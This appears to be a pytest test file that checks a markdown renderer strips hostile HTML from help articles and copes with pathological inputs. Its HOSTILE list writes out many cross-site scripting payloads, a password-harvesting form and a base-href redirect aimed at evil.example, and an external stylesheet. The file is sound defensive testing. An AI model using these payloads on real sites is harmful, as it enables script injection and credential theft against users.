"""Nothing in an article runs, loads from elsewhere, or breaks the page around it."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trato.knowledge.markdown import headings, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    '<a href="  java\nscript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0>",
    "<details ontoggle=alert(1) open>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</main></body></html><script>alert(1)</script>",
    "<h2 id=content onclick=alert(1)>x</h2>",
    "| a | b |\n|--|--|\n| <img src=x onerror=alert(1)> | `<script>` |",
    "<table><td><script>alert(1)</script></table>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x></object><embed src=x>",
]
TAGS = re.compile(r"<(\w+)((?:\s[^<>]*)?)>")
BAD_TAGS = {
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "form",
    "input",
    "button",
    "object",
    "embed",
    "base",
    "meta",
}


def is_safe(html: str) -> bool:
    for name, attributes in TAGS.findall(html.replace('<div class="wide" tabindex="0"><table>', "<table>")):
        if name in BAD_TAGS | {"link", "main", "body", "html"}:
            return False
        if re.search(r"\s(on\w+|style|class|srcdoc)=", attributes):
            return False
        for address in re.findall(r'(?:href|src)="([^"]*)"', attributes):
            if re.match(r"\s*(javascript|data|vbscript):", address, re.IGNORECASE):
                return False
        if name == "img" and not re.search(r'src="/help/files/', attributes):
            return False
    return True


@pytest.mark.parametrize("body", HOSTILE)
def test_what_is_hostile_is_made_harmless(body: str) -> None:
    for around in ("{}", "> {}", "- {}", "# {}", "text {} text", "<div>\n\n{}\n\n</div>"):
        assert is_safe(render(around.format(body)).html), around


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from([*HOSTILE, "\n\n", "- ", "> ", "```", "*", "[", "](", "<", ">", '"', "a"])).map(
        "".join
    )
)
def test_no_mixture_of_them_gets_through(body: str) -> None:
    assert is_safe(render(body).html)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_rendered(body: str) -> None:
    assert is_safe(render(body).html)


@pytest.mark.parametrize(
    "body",
    [
        "[" * 30_000,
        "![" * 20_000,
        "*" * 60_000,
        "*a " * 20_000,
        "> " * 20_000,
        "- " * 20_000,
        "`" * 30_000 + "a",
        "<div>" * 12_000,
        "&" * 60_000,
        "<!--" * 15_000,
        "a\n" * 30_000,
        "|" * 30_000,
        "| a | b |\n|--|--|\n" * 3_000,
        "[a](" * 15_000,
        "[a]: b\n" * 8_000,
        "<a href='" * 6_000,
    ],
    ids=lambda body: body[:12],
)
def test_the_worst_of_the_longest_takes_no_server_away(body: str) -> None:
    began = time.process_time()
    render(body)
    assert time.process_time() - began < 5


def test_headings_stand_below_the_title_and_none_is_left_out() -> None:
    made = render("# Uno\n\n#### Hondo\n\n# Dos\n\n## Más\n\n# Dos")
    assert re.findall(r"<h(\d) id=\"([\w-]+)\"", made.html) == [
        ("2", "s-uno"),
        ("3", "s-hondo"),
        ("2", "s-dos"),
        ("3", "s-mas"),
        ("2", "s-dos-2"),
    ]
    assert [(one.anchor, one.text) for one in headings(made.html)] == [
        ("s-uno", "Uno"),
        ("s-dos", "Dos"),
        ("s-dos-2", "Dos"),
    ]


def test_pictures_are_our_own_and_others_become_links() -> None:
    own = "/help/files/01890000-0000-7000-8000-000000000000"
    html = render(f"![Placa]({own}) ![Otra](https://x.example/a.png) ![Nada](foto.png)").html
    assert f'<img src="{own}" alt="Placa" loading="lazy">' in html
    assert '<a href="https://x.example/a.png" rel="noopener">Otra</a>' in html
    assert "Nada" in html
    assert html.count("<img") == 1


def test_a_manual_comes_out_as_it_was_meant() -> None:
    table = "| A | B |\n|---|---|\n| 1 | 2 |"
    made = render(f"Con la **factura** alcanza.\n\n1. Abra [su caso](/help/es).\n2. Adjunte.\n\n{table}")
    assert "<strong>factura</strong>" in made.html
    assert '<a href="/help/es" rel="noopener">su caso</a>' in made.html
    assert '<div class="wide" tabindex="0"><table>' in made.html
    assert made.text.startswith("Con la factura alcanza.")
